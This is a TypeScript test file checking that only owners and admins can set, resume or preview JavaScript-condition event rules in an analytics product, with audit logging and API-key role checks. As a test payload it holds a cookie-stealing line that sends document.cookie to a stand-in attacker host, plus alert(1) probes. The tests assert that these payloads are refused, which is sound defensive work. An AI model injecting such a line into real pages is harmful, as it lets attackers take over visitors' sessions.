import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as contract from "@sightline/schema/rest/events/rules";
import { createApiKey } from "@sightline/schema/rest/integrations/developer";
import { DEFAULT_SETTING } from "@sightline/schema/rest/projects/projects";
import { allSiteParts } from "#host/__generated__/allSiteParts.ts";
import { siteConfig } from "#host/site/siteConfig.ts";
import { openTestHost, type TestHost } from "#host/testing/testHost.ts";

type As = "owner" | "admin" | "user";

describe("event rules with a JavaScript condition", () => {
  let host: TestHost;
  let widget_id: number;
  beforeAll(async () => {
    host = await openTestHost();
    widget_id = host.acme.shop.widgetId;
    await host.entities
      .updateTable("widget")
      .set({ features: JSON.stringify(["eventtrack"]), allowed_websites: JSON.stringify(["acme.example"]) })
      .where("widget_id", "=", widget_id)
      .execute();
  });
  afterAll(() => host.close());

  const cta = { event_name: "cta", path_name: ".cta", action_type: 1, url: "" };
  const make = (given: object = {}, as: As = "user") =>
    host.request(contract.createEventRule, { as, body: { widget_id, ...cta, ...given } });
  const change = (body: object, as: As = "user") => host.request(contract.updateEventRule, { as, body });
  const remove = (event_config_id: number) =>
    host.request(contract.deleteEventRule, { as: "user", body: { event_config_id } });
  const condition = { action_type: 8, path_name: "window.cart?.total > 100" };
  const code = "fetch('//evil.example/' + document.cookie)";
  const refusal = {
    code: "ROLE",
    err: "Only owners and admins can set a condition: it runs as code on visitors' pages",
  };
  const served = async () =>
    JSON.stringify(await siteConfig(allSiteParts, host.entities, { widgetId: widget_id, setting: DEFAULT_SETTING }));

  it("are created by owners and admins, and refused to the role User", async () => {
    for (const as of ["owner", "admin"] as const) {
      const made = await make(condition, as);
      expect(made.status).toBe(200);
      await remove(made.answer.event_config_id);
    }
    const refused = await make({ ...condition, path_name: code });
    expect([refused.status, refused.failure]).toMatchObject([403, { ...refusal, field: "path_name" }]);
    expect(await served()).not.toContain("evil.example");
  });

  it("preserve their condition whatever the role User sends", async () => {
    const { event_config_id: id } = (await make(condition, "owner")).answer;
    const { event_config_id: click } = (await make({ path_name: ".a" })).answer;
    for (const [event_config_id, given, field] of [
      [id, { path_name: code }, "path_name"],
      [id, { action_type: 1, path_name: ".a" }, "path_name"],
      [id, { action_type: 1 }, "action_type"],
      [click, { action_type: 8, path_name: code }, "path_name"],
      [click, { action_type: 8 }, "action_type"],
    ] as const) {
      expect((await change({ event_config_id, ...given })).failure).toMatchObject({ ...refusal, field });
    }
    expect(await served()).not.toContain("evil.example");
    const renamed = await change({ event_config_id: id, ...condition, event_name: "Big cart" });
    expect(renamed.answer).toMatchObject({ ...condition, event_name: "Big cart" });
    for (const each of [id, click]) await remove(each);
  });

  it("can be paused and archived by the role User, but resumed only by owners and admins", async () => {
    const { event_config_id: id } = (await make(condition, "admin")).answer;
    expect((await change({ event_config_id: id, status: "paused" })).answer.status).toBe("paused");
    expect((await change({ event_config_id: id, status: "active" })).failure).toMatchObject(refusal);
    expect((await change({ event_config_id: id, status: "active" }, "admin")).answer.status).toBe("active");
    expect((await remove(id)).answer.status).toBe("archived");
    expect((await change({ event_config_id: id, status: "active" })).failure).toMatchObject(refusal);
  });

  it("never turn a User's input into code when a User and an Admin update the same rule simultaneously", async () => {
    const { event_config_id: id } = (await make({ path_name: "a" }, "owner")).answer;
    await Promise.all([
      change({ event_config_id: id, action_type: 8 }, "admin"),
      change({ event_config_id: id, path_name: "alert(1)" }),
    ]);
    const rule = await host.request(contract.getEventRule, { as: "owner", params: { event_config_id: id } });
    const { action_type, path_name } = rule.answer;
    expect([action_type, path_name]).not.toEqual([8, "alert(1)"]);
    await remove(id);
  });

  it("are recorded in the audit log with the old and new condition and the member who wrote it", async () => {
    const { event_config_id: id } = (await make(condition, "owner")).answer;
    await change({ event_config_id: id, path_name: "document.hidden" }, "admin");
    await change({ event_config_id: id, action_type: 1, path_name: ".a" }, "owner");
    const rows = await host.entities
      .selectFrom("audit_log")
      .select(["user_id", "action", "change"])
      .where("action_id", "=", String(id))
      .orderBy("audit_id")
      .execute();
    const field = (name: string, before: string | null, after: string | null) => ({ field: name, before, after });
    expect(rows.map(({ user_id, action, change: changed }) => [user_id, action, changed])).toEqual([
      [host.members.owner.userId, "event_rule_created", [field("condition", null, condition.path_name)]],
      [host.members.admin.userId, "event_rule_changed", [field("condition", condition.path_name, "document.hidden")]],
      [
        host.members.owner.userId,
        "event_rule_changed",
        expect.arrayContaining([field("condition", "document.hidden", null), field("path_name", null, ".a")]),
      ],
    ]);
    await remove(id);
  });

  it("are refused to an API key whose owner is no longer an Admin", async () => {
    const { answer } = await host.request(createApiKey, { as: "admin", body: { name: "ci", scopes: ["write:all"] } });
    const asKey = () =>
      host.request(contract.createEventRule, { as: { jwt: answer.key }, body: { widget_id, ...cta, ...condition } });
    const made = await asKey();
    expect(made.status).toBe(200);
    await remove(made.answer.event_config_id);
    const setRole = (role: number) =>
      host.entities.updateTable("member").set({ role }).where("user_id", "=", host.members.admin.userId).execute();
    await setRole(2);
    host.clock.move(3000);
    expect((await asKey()).failure).toMatchObject(refusal);
    await setRole(1);
    host.clock.move(3000);
  });

  it("are previewed on a page only by owners and admins, as the preview URL runs the condition", async () => {
    const check = (as: As) =>
      host.request(contract.checkEventRule, {
        as,
        body: { widget_id, action_type: 8, path_name: "alert(1)", page: "acme.example" },
      });
    expect((await check("user")).failure).toMatchObject({ ...refusal, field: "path_name" });
    expect((await check("admin")).status).toBe(200);
  });
});
